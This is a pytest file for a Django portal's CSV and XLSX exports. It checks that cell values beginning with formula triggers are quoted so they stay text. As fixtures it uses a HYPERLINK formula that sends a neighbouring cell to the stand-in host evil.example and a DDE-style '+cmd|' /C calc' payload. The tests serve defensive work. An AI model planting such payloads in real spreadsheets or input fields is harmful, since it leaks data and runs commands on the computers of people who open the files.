"""Issue 11, item 5: a name that is a formula stays text in every export.

`=HYPERLINK("http://evil.example/?x="&B2,"x")` used to be a live formula in the XLSX exports
and the council's offline sheet; CSV cells beginning with = + - @ were written as they were.
"""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from evaluation import services
from evaluation.models import RoundStatus
from ocop_portal.safe_export import TRIGGERS, safe_cell, workbook_bytes
from tests import factories
from tests.evaluation.helpers import make_dossier, make_round

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"x")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_texts_a_spreadsheet_reads_as_formulas_are_quoted(start):
    assert start in TRIGGERS
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Cà phê", "", None, -5, 3.5, "a=b", "1-2"])
def test_other_values_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_a_workbook_built_in_memory_holds_no_formula():
    book = Workbook()
    book.active.append([EVIL, "@SUM(1)", -3, "ok"])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    cells = list(sheet[1])
    assert [c.data_type for c in cells] == ["s", "s", "n", "s"]
    assert cells[0].value == "'" + EVIL


@pytest.mark.django_db
def test_list_exports_write_a_formula_name_as_text(cast, units, client_for):
    subject = factories.subject(units.current("19429"), name="+cmd|' /C calc'!A0")
    factories.product(cast["commune_a"], subject, name=EVIL)
    client = client_for("province_staff")
    response = client.get("/products/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + EVIL
    assert not any(cell.startswith(TRIGGERS) for row in rows for cell in row)
    response = client.get("/products/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert sheet["A2"].value == "'" + EVIL


@pytest.mark.django_db
def test_the_offline_scoring_sheet_writes_a_formula_name_as_text(cast, units, client_for):
    round_ = make_round(cast, units)
    dossier = make_dossier(cast, units, round_)
    dossier.product.name = EVIL
    dossier.product.save()
    for step in (RoundStatus.OPEN, RoundStatus.SCORING):
        services.round_advance(actor=cast["province_staff"], round_=round_, to=step)
    response = client_for("council_member").get(f"/evaluation/dossiers/{dossier.pk}/score/xlsx/")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["B1"].data_type == "s"
    assert sheet["B1"].value == "'" + EVIL
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
